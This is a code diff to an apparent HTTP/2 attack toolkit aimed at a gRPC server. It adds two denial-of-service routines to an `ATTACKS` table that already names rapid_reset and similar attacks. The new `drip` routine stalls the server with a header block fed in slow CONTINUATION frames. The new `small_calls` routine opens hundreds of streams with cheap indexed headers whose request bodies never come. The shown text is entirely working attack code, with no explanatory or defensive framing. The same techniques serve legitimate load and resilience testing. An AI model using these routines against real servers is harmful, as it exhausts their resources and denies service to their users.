@@ -137,6 +137,12 @@ class Connection:
             if self.acknowledge:
                 self._out += frame(_SETTINGS, _ACK, 0)
 
+    def wait(self, seconds):
+        """Reads what comes, for so long, or until the connection is closed."""
+        until = time.monotonic() + seconds
+        while not self.closed and time.monotonic() < until:
+            self.turn(until - time.monotonic())
+
     def room(self, stream):
         """Bytes of DATA that the server takes now."""
         return max(0, min(self.window, self.initial_window + self.windows.get(stream, 0)))
@@ -219,7 +225,29 @@ def many_streams(connection, options):
         connection.put(frame(_HEADERS, _END_HEADERS, stream, block) + frame(_DATA, 0, stream, struct.pack("!BI", 0, 0)))
 
 
-ATTACKS = {attack.__name__: attack for attack in (references, long_string, rapid_reset, half_messages, many_streams)}
+def drip(connection, options):
+    """Half of a header of references at once, then 64 bytes a second of it, as slowly as pings come."""
+    block = call_headers(options.path or WATCH, options.token) + b"\x40" + _text(b"a") + _text(b"b")
+    connection.put(frame(_HEADERS, 0, 1, block + _REFERENCE * (_FRAME_BYTES - len(block))))
+    connection.flush()
+    while not connection.closed and connection.sent < options.most:
+        connection.put(frame(_CONTINUATION, 0, 1, _REFERENCE * 7))
+        connection.flush()
+        connection.wait(0.25)
+
+
+def small_calls(connection, options):
+    """740 unary calls of 15 bytes each, whose messages never come: HPACK's table has all of their headers."""
+    path, kind = _text((options.path or INFO).encode()), _text(b"application/grpc")
+    first = b"\x83\x86\x44" + path + b"\x41" + _text(b"curvd") + b"\x5f" + kind
+    first += b"\x40" + _text(b"te") + _text(b"trailers")
+    for stream in range(1, 1_481, 2):
+        block = first if stream == 1 else b"\x83\x86\xc1\xc0\xbf\xbe"
+        connection.put(frame(_HEADERS, _END_HEADERS, stream, block))
+
+
+ATTACKS = {attack.__name__: attack for attack in (
+    references, long_string, rapid_reset, half_messages, many_streams, drip, small_calls)}
 _ACKNOWLEDGES = (rapid_reset, half_messages)
 
 
